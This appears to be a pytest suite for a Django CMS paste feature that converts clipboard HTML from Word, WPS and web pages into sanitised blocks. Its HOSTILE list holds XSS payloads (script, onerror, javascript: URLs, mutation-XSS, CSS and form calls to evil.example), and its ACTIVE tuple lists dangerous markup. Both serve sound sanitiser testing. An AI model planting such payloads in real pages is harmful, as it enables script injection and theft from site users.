"""The clipboard's HTML becomes blocks, and nothing of it but structure, words, bold and links is left."""

import json
import time
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse

from cms.office.models import Account
from stories.word.findings import Findings
from stories.word.pasting import LONGEST, blocks_of, pasted_parts
from tests.browser.pastes import WEB, WORD, WPS


def pasted(html: str) -> list[tuple[str, Any]]:
    """Kinds and values of the blocks; a table as its rows, headings first."""
    found = []
    for block in blocks_of(pasted_parts(html, Findings())):
        value = block["value"]
        if block["type"] == "table":
            value = [[column["heading"] for column in value["columns"]], *(row["values"] for row in value["rows"])]
        found.append((block["type"], value))
    return found


def found_in(html: str) -> set[str]:
    findings = Findings()
    pasted_parts(html, findings)
    return {one.code for one in findings.rows}


def test_from_word() -> None:
    assert pasted(WORD) == [
        ("heading", "一、品牌由来"),
        (
            "paragraph",
            '<p>这门手艺在当地传了<b>三代</b>，详见<a href="https://hrss.hainan.gov.cn/a.html">通知</a>。</p>'
            "<ol><li>选料</li><li>起锅</li></ol>",
        ),
        ("table", [["年份", "期数"], ["甲年", "三"]]),
    ]
    assert "picture_pasted" in found_in(WORD)


def test_from_wps() -> None:
    assert pasted(WPS) == [
        ("heading", "二、怎样学艺"),
        ("paragraph", "<p>先看三个月，<b>再上手</b>。</p><ul><li>刀工</li><li>火候</li></ul>"),
        ("table", [["阶段", "时间"], ["入门", "三个月"]]),
    ]


def test_from_a_web_page() -> None:
    assert pasted(WEB) == [
        ("heading", "师傅的话"),
        (
            "paragraph",
            '<p>手艺要<b>一遍一遍</b>做，急不得。<a href="https://www.hainan.gov.cn/">省政府网</a> 点我</p>'
            "<ul><li>一遍</li><li>两遍</li></ul>",
        ),
        ("quote", {"text": "做一行，爱一行。", "speaker": ""}),
        ("table", [["名", "级"], ["甲", "高级"]]),
    ]
    assert "picture_pasted" in found_in(WEB)
    assert "link" in found_in('<p><a href="/relative.html">字</a></p>')


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<p><svg onload=alert(1)><script>alert(1)</script></svg>字</p>",
    '<p><a href="java\tscript:alert(1)">字</a></p>',
    '<p><a href="data:text/html,<script>alert(1)</script>">字</a></p>',
    "<p><a href='https://a.cn/\"onmouseover=\"alert(1)'>字</a></p>",
    "<table><tr><td><img src=x onerror=alert(1)>甲</td><td><script>1</script>乙</td></tr><tr><td>一</td><td>二</td></tr></table>",
    "<h2><iframe srcdoc='<script>alert(1)</script>'></iframe>题</h2>",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">字</noscript>',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    '<p class="x" style="background:url(https://evil.example/)" onclick="alert(1)">字</p>',
    "<style>@import 'https://evil.example/x.css'</style><p>字</p>",
    "<!--[if gte mso 9]><xml><o:x/></xml><![endif]--><p>字</p>",
    "<form action=https://evil.example/><input name=a><button>按</button></form><p>字</p>",
]
ACTIVE = (
    "<script",
    "<img",
    "<svg",
    "<iframe",
    "<style",
    "<form",
    "onerror=",
    "onclick=",
    "javascript:",
    "data:",
    "style=",
    "class=",
)


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_markup_leaves_words_at_most(html: str) -> None:
    for kind, value in pasted(html):
        if kind == "paragraph":
            unescaped = value.lower()
            assert not [part for part in ACTIVE if part in unescaped], value
            assert 'onmouseover="' not in unescaped, value
        else:
            assert "evil.example" not in json.dumps(value, ensure_ascii=False)


ODD = [
    ("", []),
    ("只有字", [("paragraph", "<p>只有字</p>")]),
    ("<p>　　缩进</p><p>&nbsp;</p><p></p>", [("paragraph", "<p>缩进</p>")]),
    ("<p><b>一、 加粗编号</b></p><p>正文。</p>", [("heading", "一、 加粗编号"), ("paragraph", "<p>正文。</p>")]),
    ("<b style='font-weight:normal'><p>谷歌</p></b>", [("paragraph", "<p>谷歌</p>")]),
    ("<p>甲<br>乙</p>", [("paragraph", "<p>甲<br/>乙</p>")]),
    ("<ul><li>甲<ul><li>乙</li></ul></li></ul>", [("paragraph", "<ul><li>甲<ul><li>乙</li></ul></li></ul>")]),
    ("<li>孤项", [("paragraph", "<ul><li>孤项</li></ul>")]),
    ("<p style='display:none'>藏</p><p>显</p>", [("paragraph", "<p>显</p>")]),
    ("<table><tr><td>甲</td></tr></table>", [("paragraph", "<p>甲</p>")]),
    (
        "<table><tr><td rowspan=2>项</td><td>一</td></tr><tr><td>二</td></tr><tr><td colspan=2>计</td></tr></table>",
        [("table", [["项", "一"], ["", "二"], ["计", ""]])],
    ),
    (
        "<table><caption>说明</caption><tr><th>甲</th><th>乙</th></tr><tr><td>1</td><td><table><tr><td>2</td></tr></table></td></tr></table>",
        [("table", [["甲", "乙"], ["1", "2"]])],
    ),
    ("</td></table></ul><p>残<b>缺", [("paragraph", "<p>残<b>缺</b></p>")]),
]  # fmt: skip


@pytest.mark.parametrize(("html", "blocks"), ODD)
def test_odd_markup(html: str, blocks: list[tuple[str, Any]]) -> None:
    assert pasted(html) == blocks


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 20_000 + "深",
        "<table><tr><td>" * 5_000 + "深",
        "<ul><li>" * 5_000 + "深",
        "<td rowspan=9999 colspan=9999>深" * 500,
    ],
)
def test_depth_and_size_are_no_trouble(html: str) -> None:
    began = time.monotonic()
    pasted(html)
    assert time.monotonic() - began < 20


@pytest.mark.django_db
def test_the_office_asks_and_is_answered(client: Client, django_user_model: Any) -> None:
    address = reverse("stories_word_pasted")
    assert client.post(address, {"html": WORD}).status_code == 302, "a stranger is led to the login form"
    client.force_login(Account.objects.create_superuser("paster", password="x"))
    assert client.get(address).status_code == 405
    answer = client.post(address, {"html": WORD}).json()
    assert [block["type"] for block in answer["blocks"]] == ["heading", "paragraph", "table"]
    assert answer["blocks"][1]["value"].startswith("{"), "rich text as the editor takes it"
    assert answer["notes"]
    assert client.post(address, {"html": "<p> </p>"}).json()["blocks"] == []
    assert client.post(address, {"html": "x" * (LONGEST + 1)}).status_code == 413
